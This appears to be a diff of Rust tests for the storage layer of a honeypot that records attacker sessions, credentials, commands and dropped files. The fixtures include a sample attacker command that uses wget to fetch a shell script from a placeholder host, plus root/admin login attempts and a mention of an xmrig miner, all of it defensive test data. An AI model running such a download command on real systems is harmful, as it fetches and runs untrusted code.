                 bytes_transferred: 0,
                 status: SessionStatus::Pending,
+                enrichment: None,
+                original_dst: None,
             })
+            .await
             .unwrap();
-        storage.save_interaction(id, b"abc").unwrap();
-        storage.save_interaction(id, b"def").unwrap();
-        let data = storage.get_session_data(id).unwrap();
+        storage.save_interaction(id, b"abc").await.unwrap();
+        storage.save_interaction(id, b"def").await.unwrap();
+        let data = storage.get_session_data(id).await.unwrap();
         assert_eq!(data, b"abcdef");
     }
 
-    #[tokio::test(flavor = "multi_thread")]
+    #[tokio::test]
     async fn test_db_artifacts_roundtrip_and_cleanup() {
         let storage = temp_db().await;
         let id = Uuid::new_v4();
@@ -528,8 +1837,10 @@ mod tests {
             container_id: None,
             bytes_transferred: 0,
             status: SessionStatus::Completed,
+            enrichment: None,
+            original_dst: None,
         };
-        storage.save_session(&session).unwrap();
+        storage.save_session(&session).await.unwrap();
         let artifacts = CaptureArtifacts {
             session_id: id,
             tcp_client_to_container: vec![1, 2],
@@ -537,19 +1848,705 @@ mod tests {
             stdio_stdin: "input".to_string(),
             stdio_stdout: "output".to_string(),
             stdio_stderr: "errors".to_string(),
-            tcp_timestamps: vec![],
-            stdio_timestamps: vec![],
             total_bytes: 5,
             duration: chrono::Duration::seconds(1),
+            ..Default::default()
         };
-        storage.save_capture_artifacts(&artifacts).unwrap();
-        let fetched = storage.get_capture_artifacts(id).unwrap();
+        storage.save_capture_artifacts(&artifacts).await.unwrap();
+        let fetched = storage.get_capture_artifacts(id).await.unwrap();
         assert_eq!(fetched.total_bytes, 5);
         let removed = storage
             .cleanup_old_sessions(Utc::now() + chrono::Duration::seconds(1))
+            .await
             .unwrap();
         assert_eq!(removed, 1);
-        let missing = storage.get_capture_artifacts(id);
+        let missing = storage.get_capture_artifacts(id).await;
         assert!(missing.is_err());
     }
+
+    #[tokio::test]
+    async fn test_db_captured_text_is_searched() {
+        let storage = temp_db().await;
+        let t0 = Utc::now() - chrono::Duration::hours(1);
+        let mut ids = Vec::new();
+        for (i, (stdin, request)) in [
+            ("wget http://198.51.100.9/x.sh\n", "GET / HTTP/1.1\r\n\r\n"),
+            ("uname -a\n", "GET /?ip=198.51.100.9 HTTP/1.1\r\n\r\n"),
+            ("100%_done\n", ""),
+        ]
+        .into_iter()
+        .enumerate()
+        {
+            let id = Uuid::new_v4();
+            let start_time = t0 + chrono::Duration::minutes(i as i64);
+            let session = Session {
+                id,
+                service_name: "svc".into(),
+                client_addr: "127.0.0.1:1".parse().unwrap(),
+                start_time,
+                end_time: Some(start_time),
+                container_id: None,
+                bytes_transferred: 0,
+                status: SessionStatus::Completed,
+                enrichment: None,
+                original_dst: None,
+            };
+            storage.save_session(&session).await.unwrap();
+            let artifacts = CaptureArtifacts {
+                session_id: id,
+                tcp_client_to_container: request.as_bytes().to_vec(),
+                stdio_stdin: stdin.to_string(),
+                duration: chrono::Duration::seconds(1),
+                ..Default::default()
+            };
+            storage.save_capture_artifacts(&artifacts).await.unwrap();
+            // Saving again replaces the documents
+            storage.save_capture_artifacts(&artifacts).await.unwrap();
+            ids.push(id);
+        }
+
+        let hits = storage.search("WGET http://", 10).await.unwrap();
+        assert_eq!(hits.len(), 1);
+        assert_eq!(
+            (hits[0].session_id, hits[0].field),
+            (ids[0], SearchField::Stdin)
+        );
+        assert_eq!(hits[0].snippet, "wget http://198.51.100.9/x.sh ");
+
+        // Most recent first, in the commands and the HTTP requests
+        let hits = storage.search("198.51.100.9", 10).await.unwrap();
+        let found: Vec<(Uuid, SearchField)> =
+            hits.iter().map(|h| (h.session_id, h.field)).collect();
+        assert_eq!(
+            found,
+            [(ids[1], SearchField::Http), (ids[0], SearchField::Stdin)]
+        );
+        assert_eq!(storage.search("198.51.100.9", 1).await.unwrap().len(), 1);
+
+        // No words for the index, and LIKE wildcards taken literally
+        assert_eq!(
+            storage.search("%_", 10).await.unwrap()[0].session_id,
+            ids[2]
+        );
+        assert!(storage.search("curl", 10).await.unwrap().is_empty());
+
+        storage.delete_sessions(&ids[..1]).await.unwrap();
+        assert!(storage.search("wget", 10).await.unwrap().is_empty());
+    }
+
+    #[tokio::test]
+    async fn test_db_extracted_files_are_indexed_by_hash() {
+        use crate::data_capture::{CarveSource, CarvedFile, UploadedFile};
+
+        let storage = temp_db().await;
+        let sha256 = "4355a46b19d348dc2f57c046f8ef63d4538ebb936000f3c9ee954a27460dd865";
+        let mut ids = Vec::new();
+        for _ in 0..2 {
+            let id = Uuid::new_v4();
+            storage
+                .save_session(&Session {
+                    id,
+                    service_name: "ssh".into(),
+                    client_addr: "127.0.0.1:1".parse().unwrap(),
+                    start_time: Utc::now(),
+                    end_time: None,
+                    container_id: None,
+                    bytes_transferred: 0,
+                    status: SessionStatus::Active,
+                    enrichment: None,
+                    original_dst: None,
+                })
+                .await
+                .unwrap();
+            ids.push(id);
+        }
+        let artifacts = |session_id, uploaded_files, carved_files| CaptureArtifacts {
+            session_id,
+            duration: chrono::Duration::seconds(1),
+            uploaded_files,
+            carved_files,
+            ..Default::default()
+        };
+        let carved = CarvedFile {
+            name: ".x".to_string(),
+            source: CarveSource::Base64,
+            sha256: sha256.to_string(),
+            md5: "d1531b1622de54fe3a0187c3344600e9".to_string(),
+            sha1: "d47cbc8e977ffc6f492483716f00534153677778".to_string(),
+            content: b"\x7fELF".to_vec(),
+            truncated: false,
+            virustotal: None,
+        };
+        let upload = UploadedFile {
+            name: "bot".to_string(),
+            sha256: sha256.to_string(),
+            md5: String::new(),
+            sha1: String::new(),
+            content: b"\x7fELF".to_vec(),
+            truncated: false,
+            virustotal: None,
+        };
+
+        // Saving the artifacts again does not duplicate the rows
+        for _ in 0..2 {
+            storage
+                .save_capture_artifacts(&artifacts(ids[0], vec![], vec![carved.clone()]))
+                .await
+                .unwrap();
+        }
+        storage
+            .save_capture_artifacts(&artifacts(ids[1], vec![upload], vec![]))
+            .await
+            .unwrap();
+        let rows = files::Entity::find().all(&storage.conn).await.unwrap();
+        assert_eq!(rows.len(), 2);
+        assert_eq!(rows[0].source, "base64");
+        assert_eq!(rows[1].source, "upload");
+        assert_eq!(
+            storage
+                .sessions_with_file(&sha256.to_uppercase())
+                .await
+                .unwrap(),
+            ids
+        );
+
+        // Looked up by the other hashes where they were recorded
+        assert_eq!(
+            storage
+                .sessions_with_file("d47cbc8e977ffc6f492483716f00534153677778")
+                .await
+                .unwrap(),
+            ids[..1]
+        );
+
+        storage.delete_sessions(&ids[..1]).await.unwrap();
+        assert_eq!(storage.sessions_with_file(sha256).await.unwrap(), ids[1..]);
+    }
+
+    #[tokio::test]
+    async fn test_db_compressed_artifacts_are_read_back() {
+        let dir = TempDir::new().unwrap();
+        let path = dir.path().join("old.sqlite3");
+        // A database created before artifacts were compressed
+        let conn = Database::connect(format!("sqlite://{}?mode=rwc", path.display()))
+            .await
+            .unwrap();
+        for ddl in [
+            "CREATE TABLE sessions (id TEXT PRIMARY KEY, service_name TEXT NOT NULL, \
+             client_addr TEXT NOT NULL, start_time TEXT NOT NULL, end_time TEXT, \
+             container_id TEXT, bytes_transferred INTEGER NOT NULL, status TEXT NOT NULL)",
+            "CREATE TABLE artifacts (session_id TEXT PRIMARY KEY, json TEXT NOT NULL)",
+        ] {
+            conn.execute(Statement::from_string(DbBackend::Sqlite, ddl.to_string()))
+                .await
+                .unwrap();
+        }
+        drop(conn);
+
+        let storage = DatabaseStorage::new_file(&path).await.unwrap();
+        let artifacts = |session_id| CaptureArtifacts {
+            session_id,
+            tcp_client_to_container: b"id\n".repeat(100),
+            tcp_container_to_client: b"uid=0(root) gid=0(root)\n".repeat(100),
+            stdio_stdout: "uid=0(root) gid=0(root)\n".repeat(100),
+            total_bytes: 2700,
+            duration: chrono::Duration::seconds(1),
+            ..Default::default()
+        };
+        let (plain, compressed) = (Uuid::new_v4(), Uuid::new_v4());
+        for id in [plain, compressed] {
+            let now = Utc::now();
+            let session = Session {
+                id,
+                service_name: "ssh".into(),
+                client_addr: "127.0.0.1:1".parse().unwrap(),
+                start_time: now,
+                end_time: Some(now),
+                container_id: None,
+                bytes_transferred: 0,
+                status: SessionStatus::Completed,
+                enrichment: None,
+                original_dst: None,
+            };
+            storage.save_session(&session).await.unwrap();
+        }
+        storage
+            .save_capture_artifacts(&artifacts(plain))
+            .await
+            .unwrap();
+
+        let storage = storage.with_compression(ArtifactCompression::Gzip);
+        storage
+            .save_capture_artifacts(&artifacts(compressed))
+            .await
+            .unwrap();
+        let row = art::Entity::find_by_id(compressed.to_string())
+            .one(&storage.conn)
+            .await
+            .unwrap()
+            .unwrap();
+        assert!(row.json.is_empty());
+        let json_len = serde_json::to_string(&artifacts(compressed)).unwrap().len();
+        assert!(row.payload.unwrap().len() < json_len / 4);
+
+        for id in [plain, compressed] {
+            let fetched = storage.get_capture_artifacts(id).await.unwrap();
+            assert_eq!(
+                fetched.tcp_container_to_client,
+                artifacts(id).tcp_container_to_client
+            );
+            assert_eq!(fetched.stdio_stdout, artifacts(id).stdio_stdout);
+        }
+    }
+
+    #[tokio::test]
+    async fn test_db_credentials_roundtrip_and_cleanup() {
+        let storage = temp_db().await;
+        let id = Uuid::new_v4();
+        let now = Utc::now();
+        storage
+            .save_session(&Session {
+                id,
+                service_name: "telnet".into(),
+                client_addr: "127.0.0.1:1".parse().unwrap(),
+                start_time: now,
+                end_time: Some(now),
+                container_id: None,
+                bytes_transferred: 0,
+                status: SessionStatus::Completed,
+                enrichment: None,
+                original_dst: None,
+            })
+            .await
+            .unwrap();
+        let attempt = |username: &str, password: Option<&str>, accepted| Credential {
+            session_id: id,
+            timestamp: now,
+            service: "telnet".into(),
+            client_ip: Some("203.0.113.7".parse().unwrap()),
+            username: username.into(),
+            password: password.map(Into::into),
+            accepted,
+        };
+        storage
+            .save_credentials(&[attempt("root", Some("admin"), Some(false))])
+            .await
+            .unwrap();
+        storage
+            .save_credentials(&[attempt("admin", None, None)])
+            .await
+            .unwrap();
+
+        let of_session = |session_id| CredentialFilter {
+            session_id: Some(session_id),
+            ..Default::default()
+        };
+        let credentials = storage.get_credentials(Some(of_session(id))).await.unwrap();
+        assert_eq!(credentials.len(), 2);
+        assert_eq!(credentials[0].password.as_deref(), Some("admin"));
+        assert_eq!(credentials[0].accepted, Some(false));
+        assert_eq!(
+            credentials[0].client_ip,
+            Some("203.0.113.7".parse().unwrap())
+        );
+        assert_eq!(credentials[1].password, None);
+        assert_eq!(credentials[1].accepted, None);
+        assert!(storage
+            .get_credentials(Some(of_session(Uuid::new_v4())))
+            .await
+            .unwrap()
+            .is_empty());
+
+        let by_username = storage
+            .get_credentials(Some(CredentialFilter {
+                username: Some("root".into()),
+                service_name: Some("telnet".into()),
+                client_addr: Some("203.0.113.7".parse().unwrap()),
+                ..Default::default()
+            }))
+            .await
+            .unwrap();
+        assert_eq!(by_username.len(), 1);
+        assert_eq!(by_username[0].session_id, id);
+        assert!(storage
+            .get_credentials(Some(CredentialFilter {
+                start_date: Some(now + chrono::Duration::seconds(1)),
+                ..Default::default()
+            }))
+            .await
+            .unwrap()
+            .is_empty());
+
+        storage
+            .cleanup_old_sessions(Utc::now() + chrono::Duration::seconds(1))
+            .await
+            .unwrap();
+        assert!(storage.get_credentials(None).await.unwrap().is_empty());
+    }
+
+    #[tokio::test]
+    async fn test_db_sessions_are_deleted_by_id() {
+        let storage = temp_db().await;
+        let ids: Vec<Uuid> = (0..3).map(|_| Uuid::new_v4()).collect();
+        for &id in &ids {
+            storage
+                .save_session(&Session {
+                    id,
+                    service_name: "ssh".into(),
+                    client_addr: "127.0.0.1:1".parse().unwrap(),
+                    start_time: Utc::now(),
+                    end_time: None,
+                    container_id: None,
+                    bytes_transferred: 0,
+                    status: SessionStatus::Completed,
+                    enrichment: None,
+                    original_dst: None,
+                })
+                .await
+                .unwrap();
+            storage.save_interaction(id, &[0; 64 * 1024]).await.unwrap();
+        }
+        let before = storage.storage_size().await.unwrap();
+        assert!(before > 3 * 64 * 1024);
+
+        let removed = storage
+            .delete_sessions(&[ids[0], ids[2], Uuid::new_v4()])
+            .await
+            .unwrap();
+        assert_eq!(removed, 2);
+        let left = storage.get_sessions(None).await.unwrap();
+        assert_eq!(left.len(), 1);
+        assert_eq!(left[0].id, ids[1]);
+        assert!(storage.get_session_data(ids[0]).await.unwrap().is_empty());
+        assert!(storage.storage_size().await.unwrap() < before);
+    }
+
+    #[tokio::test]
+    async fn test_db_commands_are_replaced() {
+        let storage = temp_db().await;
+        let id = Uuid::new_v4();
+        let now = Utc::now();
+        storage
+            .save_session(&Session {
+                id,
+                service_name: "ssh".into(),
+                client_addr: "127.0.0.1:1".parse().unwrap(),
+                start_time: now,
+                end_time: None,
+                container_id: None,
+                bytes_transferred: 0,
+                status: SessionStatus::Active,
+                enrichment: None,
+                original_dst: None,
+            })
+            .await
+            .unwrap();
+        let command = |line: &str, exit_hint| ExecutedCommand {
+            session_id: id,
+            timestamp: now,
+            source: "SSH".into(),
+            command: line.into(),
+            stdout_lines: 0,
+            stderr_lines: 1,
+            exit_hint,
+        };
+        storage
+            .save_commands(id, &[command("uname -a", None)])
+            .await
+            .unwrap();
+        let timeline = [
+            command("uname -a", Some(ExitHint::Output)),
+            command("xmrig", Some(ExitHint::NotFound)),
+        ];
+        storage.save_commands(id, &timeline).await.unwrap();
+
+        let commands = storage.get_commands(id).await.unwrap();
+        assert_eq!(commands.len(), 2);
+        assert_eq!(commands[0].command, "uname -a");
+        assert_eq!(commands[0].exit_hint, Some(ExitHint::Output));
+        assert_eq!(commands[1].exit_hint, Some(ExitHint::NotFound));
+        assert!(storage
+            .get_commands(Uuid::new_v4())
+            .await
+            .unwrap()
+            .is_empty());
+    }
+
+    #[tokio::test]
+    async fn test_db_honeytokens_roundtrip() {
+        let storage = temp_db().await;
+        let tokens: Vec<Honeytoken> = (0..3)
+            .map(|i| {
+                let mut token = crate::honeytokens::generate(&HoneytokenSpec {
+                    kind: HoneytokenKind::Credential,
+                    path: None,
+                });
+                token.created_at += chrono::Duration::seconds(i);
+                token.content = String::new();
+                token
+            })
+            .collect();
+        storage.save_honeytokens(&tokens).await.unwrap();
+        let mut assigned = tokens[2].clone();
+        assigned.session_id = Some(Uuid::new_v4());
+        storage
+            .save_honeytokens(std::slice::from_ref(&assigned))
+            .await
+            .unwrap();
+        assert_eq!(
+            storage.get_honeytokens(2).await.unwrap(),
+            vec![tokens[1].clone(), assigned]
+        );
+
+        storage.delete_honeytokens(&[tokens[0].id]).await.unwrap();
+        assert_eq!(storage.get_honeytokens(10).await.unwrap().len(), 2);
+    }
+
+    #[tokio::test]
+    async fn test_db_annotations_roundtrip_and_tag_filter() {
+        let storage = temp_db().await;
+        let (tagged, untagged) = (Uuid::new_v4(), Uuid::new_v4());
+        for id in [tagged, untagged] {
+            storage
+                .save_session(&Session {
+                    id,
+                    service_name: "ssh".into(),
+                    client_addr: "198.51.100.7:2222".parse().unwrap(),
+                    start_time: Utc::now(),
+                    end_time: None,
+                    container_id: None,
+                    bytes_transferred: 0,
+                    status: SessionStatus::Active,
+                    enrichment: None,
+                    original_dst: None,
+                })
+                .await
+                .unwrap();
+        }
+        let mut annotations = storage.get_annotations(tagged).await.unwrap();
+        assert!(annotations.tags.is_empty() && annotations.notes.is_none());
+
+        annotations.update(&AnnotationsUpdate {
+            add_tags: vec!["miner".into(), "bruteforce".into()],
+            notes: Some("xmrig dropped from 203.0.113.9".into()),
+            ..Default::default()
+        });
+        storage.save_annotations(&annotations).await.unwrap();
+        assert_eq!(storage.get_annotations(tagged).await.unwrap(), annotations);
+
+        let found = storage
+            .get_sessions(Some(SessionFilter {
+                tag: Some("miner".into()),
+                ..Default::default()
+            }))
+            .await
+            .unwrap();
+        assert_eq!(found.len(), 1);
+        assert_eq!(found[0].id, tagged);
+
+        annotations.update(&AnnotationsUpdate {
+            remove_tags: vec!["miner".into()],
+            notes: Some(String::new()),
+            ..Default::default()
+        });
+        storage.save_annotations(&annotations).await.unwrap();
+        let saved = storage.get_annotations(tagged).await.unwrap();
+        assert_eq!(saved.tags.len(), 1);
+        assert!(saved.notes.is_none());
+        assert!(storage
+            .get_sessions(Some(SessionFilter {
+                tag: Some("miner".into()),
+                ..Default::default()
+            }))
+            .await
+            .unwrap()
+            .is_empty());
+    }
+
+    /// Runs against the PostgreSQL server of `MIEL_TEST_POSTGRES_URL`, e.g.
+    /// `postgres://miel@localhost/miel_test`, and is skipped when it is unset.
+    /// Rows are told apart from those of other runs by a service name of their own.
+    #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+    async fn test_postgres_server_roundtrip() {
+        use crate::data_capture::UploadedFile;
+
+        let Ok(url) = env::var("MIEL_TEST_POSTGRES_URL") else {
+            eprintln!("MIEL_TEST_POSTGRES_URL is unset, skipping the PostgreSQL test");
+            return;
+        };
+        let first = std::sync::Arc::new(DatabaseStorage::connect(&url, 4).await.unwrap());
+        // The schema of an existing database is kept
+        let second = std::sync::Arc::new(DatabaseStorage::connect(&url, 4).await.unwrap());
+        assert_eq!(first.conn.get_database_backend(), DbBackend::Postgres);
+
+        let run = Uuid::new_v4().simple().to_string();
+        let service = format!("pg-{}", run);
+        let of_service = || SessionFilter {
+            service_name: Some(service.clone()),
+            ..Default::default()
+        };
+        let now = Utc::now();
+        let session = |id, client_addr: &str, status| Session {
+            id,
+            service_name: service.clone(),
+            client_addr: client_addr.parse().unwrap(),
+            start_time: now,
+            end_time: Some(now + chrono::Duration::seconds(30)),
+            container_id: None,
+            bytes_transferred: 10,
+            status,
+            enrichment: None,
+            original_dst: None,
+        };
+
+        // Concurrent writers of both pools upsert the same session
+        let id = Uuid::new_v4();
+        let writers: Vec<_> = (0..8)
+            .map(|n| {
+                let storage = if n % 2 == 0 { &first } else { &second }.clone();
+                let saved = session(id, "[2001:db8::7]:40000", SessionStatus::Active);
+                tokio::spawn(async move { storage.save_session(&saved).await.unwrap() })
+            })
+            .collect();
+        for writer in writers {
+            writer.await.unwrap();
+        }
+        let other = Uuid::new_v4();
+        second
+            .save_session(&session(
+                other,
+                "203.0.113.7:40000",
+                SessionStatus::Completed,
+            ))
+            .await
+            .unwrap();
+        assert_eq!(
+            first.get_sessions(Some(of_service())).await.unwrap().len(),
+            2
+        );
+        let by_client = first
+            .get_sessions(Some(SessionFilter {
+                client_addr: Some("2001:db8::7".parse().unwrap()),
+                status: Some(SessionStatus::Active),
+                ..of_service()
+            }))
+            .await
+            .unwrap();
+        assert_eq!(by_client.len(), 1);
+        assert_eq!(by_client[0].id, id);
+        assert_eq!(
+            by_client[0].client_addr,
+            "[2001:db8::7]:40000".parse().unwrap()
+        );
+        let longest = first
+            .get_sessions(Some(SessionFilter {
+                min_duration_secs: Some(30),
+                sort: Some(SessionSort::BytesTransferredDesc),
+                limit: Some(1),
+                ..of_service()
+            }))
+            .await
+            .unwrap();
+        assert_eq!(longest.len(), 1);
+
+        first.save_interaction(id, b"abc").await.unwrap();
+        second.save_interaction(id, b"def").await.unwrap();
+        assert_eq!(first.get_session_data(id).await.unwrap(), b"abcdef");
+
+        let sha256 = format!("{}{}", run, Uuid::new_v4().simple());
+        let artifacts = CaptureArtifacts {
+            session_id: id,
+            tcp_client_to_container: b"GET / HTTP/1.1\r\n\r\n".to_vec(),
+            stdio_stdin: format!("wget http://198.51.100.9/{}.sh\n", run),
+            total_bytes: 5,
+            duration: chrono::Duration::seconds(30),
+            uploaded_files: vec![UploadedFile {
+                name: "bot".to_string(),
+                sha256: sha256.clone(),
+                md5: String::new(),
+                sha1: String::new(),
+                content: b"\x7fELF".to_vec(),
+                truncated: false,
+                virustotal: None,
+            }],
+            ..Default::default()
+        };
+        // Saving again replaces the rows
+        first.save_capture_artifacts(&artifacts).await.unwrap();
+        second.save_capture_artifacts(&artifacts).await.unwrap();
+        let fetched = first.get_capture_artifacts(id).await.unwrap();
+        assert_eq!(fetched.total_bytes, 5);
+        assert_eq!(fetched.uploaded_files[0].content, b"\x7fELF");
+        assert_eq!(first.sessions_with_file(&sha256).await.unwrap(), [id]);
+        let hits = first.search(&run, 10).await.unwrap();
+        assert_eq!(hits.len(), 1);
+        assert_eq!(
+            (hits[0].session_id, hits[0].field),
+            (id, SearchField::Stdin)
+        );
+
+        let credential = Credential {
+            session_id: id,
+            timestamp: now,
+            service: service.clone(),
+            client_ip: Some("2001:db8::7".parse().unwrap()),
+            username: "root".into(),
+            password: Some("admin".into()),
+            accepted: Some(false),
+        };
+        first.save_credentials(&[credential]).await.unwrap();
+        let credentials = second
+            .get_credentials(Some(CredentialFilter {
+                session_id: Some(id),
+                ..Default::default()
+            }))
+            .await
+            .unwrap();
+        assert_eq!(credentials.len(), 1);
+        assert_eq!(credentials[0].accepted, Some(false));
+
+        let command = ExecutedCommand {
+            session_id: id,
+            timestamp: now,
+            source: "SSH".into(),
+            command: "uname -a".into(),
+            stdout_lines: 1,
+            stderr_lines: 0,
+            exit_hint: Some(ExitHint::Output),
+        };
+        first
+            .save_commands(id, std::slice::from_ref(&command))
+            .await
+            .unwrap();
+        second.save_commands(id, &[command]).await.unwrap();
+        assert_eq!(first.get_commands(id).await.unwrap().len(), 1);
+
+        let mut annotations = first.get_annotations(id).await.unwrap();
+        annotations.update(&AnnotationsUpdate {
+            add_tags: vec![run.clone()],
+            notes: Some("xmrig".into()),
+            ..Default::default()
+        });
+        first.save_annotations(&annotations).await.unwrap();
+        assert_eq!(second.get_annotations(id).await.unwrap(), annotations);
+        let tagged = first
+            .get_sessions(Some(SessionFilter {
+                tag: Some(run.clone()),
+                ..Default::default()
+            }))
+            .await
+            .unwrap();
+        assert_eq!(tagged.len(), 1);
+        assert!(first.storage_size().await.unwrap() > 0);
+
+        assert_eq!(first.delete_sessions(&[id, other]).await.unwrap(), 2);
+        assert!(first
+            .get_sessions(Some(of_service()))
+            .await
+            .unwrap()
+            .is_empty());
+        assert!(first.get_capture_artifacts(id).await.is_err());
+        assert!(first.sessions_with_file(&sha256).await.unwrap().is_empty());
+        assert!(first.search(&run, 10).await.unwrap().is_empty());
+    }
 }